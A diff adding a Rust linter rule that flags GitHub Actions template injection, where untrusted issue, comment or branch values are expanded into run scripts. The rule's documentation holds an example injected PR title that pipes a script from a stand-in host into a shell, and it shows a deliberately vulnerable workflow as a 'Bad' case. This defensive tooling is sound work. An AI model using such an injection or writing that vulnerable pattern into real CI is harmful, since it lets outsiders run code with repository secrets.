@@ -1,0 +1,249 @@
+//! `security/template-injection`: a `${{ }}` expression whose value an outsider (or a
+//! caller) controls, expanded directly into code — a `run:` script, an
+//! `actions/github-script` `script:`, or another action input that is executed.
+
+use super::common::{
+    self, attacker_severity, classify, env_name, env_value, input_is_typed, matrix_is_static,
+    value_contexts, value_span, Taint,
+};
+use crate::expr::find_embedded;
+use crate::finding::{Category, Confidence, Severity};
+use crate::rules::{Ctx, FixMeta, Rule, RuleMeta, StepSite};
+use pipewise_yaml::Node;
+use std::collections::BTreeSet;
+
+pub struct TemplateInjection;
+
+pub static META: RuleMeta = RuleMeta {
+    id: "security/template-injection",
+    title: "Untrusted value expanded into code",
+    severity: Severity::High,
+    confidence: Confidence::High,
+    category: Category::Security,
+    summary: "A `${{ }}` expression whose value comes from outside the repository (issue or PR titles and bodies, comments, branch names, commit messages) or from a caller (`inputs.*`) is pasted into a `run:` script or another code input before the shell sees it.",
+    impact: "Whoever writes that value runs their own commands in the job, with its secrets and token: a PR title of `\"; curl evil.sh | sh #` is enough.",
+    doc: r#"
+## Why it matters
+GitHub substitutes `${{ }}` expressions into the script text before the shell runs it.
+Quoting does not help: a value containing `"`, `$(…)` or a newline becomes code. When
+the value is written by an outsider — a pull request title, an issue body, a comment,
+a fork's branch name — anyone can run commands in the job. On `pull_request_target`,
+`issue_comment`, `issues` and `workflow_run` the job has the repository's secrets and a
+write token, so this is a full compromise. Passing the value through an environment
+variable makes it data: the shell expands `"$TITLE"` without interpreting it.
+
+Severity follows the trigger: critical on events outsiders start with secrets, medium
+on `push`/`workflow_dispatch`/`release`, low on `pull_request` (the fork's author
+already controls the code being built). `inputs.*` are low (the caller chooses them);
+step outputs and dynamic `env`/`matrix` values are info (provenance unknown). Numbers,
+SHAs, booleans, `needs.*.result`, `steps.*.outcome`, logins and values only used in
+`if:` or compared inside the expression are not reported.
+
+## Bad
+```yaml
+on: issue_comment
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.event.comment.body }}" | ./triage.sh
+```
+
+## Good
+```yaml
+on: issue_comment
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          COMMENT_BODY: ${{ github.event.comment.body }}
+        run: printf '%s\n' "$COMMENT_BODY" | ./triage.sh
+```
+"#,
+    fix: FixMeta {
+        description: "Move the expression into the step's `env:` and use the variable, quoted, in the script.",
+        snippet: "env:\n  TITLE: ${{ github.event.pull_request.title }}\nrun: echo \"$TITLE\"",
+        effort_minutes: 10,
+    },
+    references: &[
+        "zizmor: template-injection",
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    ],
+};
+
+struct Sink<'a> {
+    node: &'a Node,
+    text: &'a str,
+    /// `run` or the action input name.
+    what: String,
+    /// `sh`, `js`, `pwsh`, `py`, `prompt`.
+    lang: &'static str,
+}
+
+fn sinks<'a>(site: &StepSite<'_, 'a>) -> Vec<Sink<'a>> {
+    let mut out = vec![];
+    if let Some(run) = &site.step.run {
+        let lang = match run.shell.map(|s| s.split_whitespace().next().unwrap_or("")) {
+            Some("pwsh") | Some("powershell") => "pwsh",
+            Some("python") => "py",
+            _ => "sh",
+        };
+        out.push(Sink {
+            node: run.node,
+            text: run.text,
+            what: "run".into(),
+            lang,
+        });
+    }
+    if let Some((node, input, lang)) = common::code_input(site.step) {
+        if let Some(text) = node.as_str() {
+            out.push(Sink {
+                node,
+                text,
+                what: format!(
+                    "`{input}:` input of `{}`",
+                    site.step.action().unwrap_or_default()
+                ),
+                lang,
+            });
+        }
+    }
+    out
+}
+
+/// Classifies a context in this step, resolving static `env`/`matrix` values.
+fn taint_at(site: &StepSite, path: &str, depth: u8) -> (Taint, String) {
+    let t = classify(path);
+    let mut parts = path.splitn(2, '.');
+    let head = parts.next().unwrap_or("");
+    let name = parts.next().unwrap_or("");
+    match (t, head) {
+        (Taint::Unknown, "env") => {
+            match env_value(site.workflow, site.job, site.step, name) {
+                Some(v) => {
+                    let Some(s) = v.as_str() else {
+                        return (Taint::Safe, path.into());
+                    };
+                    if !s.contains("${{") || depth > 2 {
+                        return (Taint::Safe, path.into());
+                    }
+                    // The env value is itself an expression: its worst source counts.
+                    let mut worst = (Taint::Safe, path.to_string());
+                    for emb in find_embedded(s) {
+                        let Ok(e) = &emb.expr else { continue };
+                        for (p, _) in value_contexts(e) {
+                            let (t2, src) = taint_at(site, &p, depth + 1);
+                            if t2 > worst.0 {
+                                worst = (t2, src);
+                            }
+                        }
+                    }
+                    worst
+                }
+                // Set at runtime (GITHUB_ENV) or by the runner: unknown.
+                None => (Taint::Unknown, path.into()),
+            }
+        }
+        (Taint::Unknown, "matrix") => {
+            let key = name.split('.').next().unwrap_or("");
+            if matrix_is_static(site.job, key) {
+                (Taint::Safe, path.into())
+            } else {
+                (Taint::Unknown, path.into())
+            }
+        }
+        (Taint::Caller, _) => {
+            let input = path.rsplit('.').next().unwrap_or("");
+            let root = site.action.map(|a| a.root);
+            if input_is_typed(site.workflow, root, input) {
+                (Taint::Safe, path.into())
+            } else {
+                (Taint::Caller, path.into())
+            }
+        }
+        _ => (t, path.into()),
+    }
+}
+
+impl Rule for TemplateInjection {
+    fn meta(&self) -> &'static RuleMeta {
+        &META
+    }
+    fn step(&self, site: &StepSite, cx: &mut Ctx) {
+        for sink in sinks(site) {
+            let mut seen = BTreeSet::new();
+            for emb in find_embedded(sink.text) {
+                let Ok(e) = &emb.expr else { continue };
+                for (path, span) in value_contexts(e) {
+                    let (taint, source) = taint_at(site, &path, 0);
+                    if taint == Taint::Safe || !seen.insert(path.clone()) {
+                        continue;
+                    }
+                    let (sev, why, conf) = match taint {
+                        Taint::Attacker => {
+                            let (s, w) = attacker_severity(site.workflow, &source);
+                            (s, w, Confidence::High)
+                        }
+                        Taint::Caller => (
+                            Severity::Low,
+                            "whoever starts or calls the workflow chooses it".to_string(),
+                            Confidence::Medium,
+                        ),
+                        _ => (
+                            Severity::Info,
+                            "its value is computed at runtime and may carry outside data"
+                                .to_string(),
+                            Confidence::Low,
+                        ),
+                    };
+                    let expr_text = sink
+                        .text
+                        .get(span.start..span.end)
+                        .unwrap_or(path.as_str())
+                        .to_string();
+                    let via = if source != path {
+                        format!(" (its value comes from `{source}`)")
+                    } else {
+                        String::new()
+                    };
+                    let var = env_name(&path);
+                    let (use_it, lang_note) = match sink.lang {
+                        "js" => (format!("process.env.{var}"), "read it from `process.env`"),
+                        "pwsh" => (format!("$env:{var}"), "use `$env:` in the script"),
+                        "py" => (
+                            format!("os.environ[\"{var}\"]"),
+                            "read it from `os.environ`",
+                        ),
+                        _ => (format!("\"${var}\""), "quote the variable in the script"),
+                    };
+                    let snippet = format!(
+                        "env:\n  {var}: ${{{{ {expr_text} }}}}\n{}: … {use_it} …",
+                        if sink.what == "run" {
+                            "run"
+                        } else {
+                            "with.<input>"
+                        }
+                    );
+                    let file_span = value_span(site.doc, sink.node, span);
+                    let msg = format!(
+                        "`${{{{ {expr_text} }}}}`{via} is pasted into the {} as code before it runs; {why}.",
+                        if sink.what == "run" { "`run:` script".to_string() } else { sink.what.clone() },
+                    );
+                    cx.report(&META, site.path, file_span, msg)
+                        .severity(sev)
+                        .confidence(conf)
+                        .site(site)
+                        .fix(
+                            format!(
+                                "Pass `{expr_text}` through `env:` as `{var}` and {lang_note}."
+                            ),
+                            snippet,
+                            10,
+                        );
+                }
+            }
+        }
+    }
+}
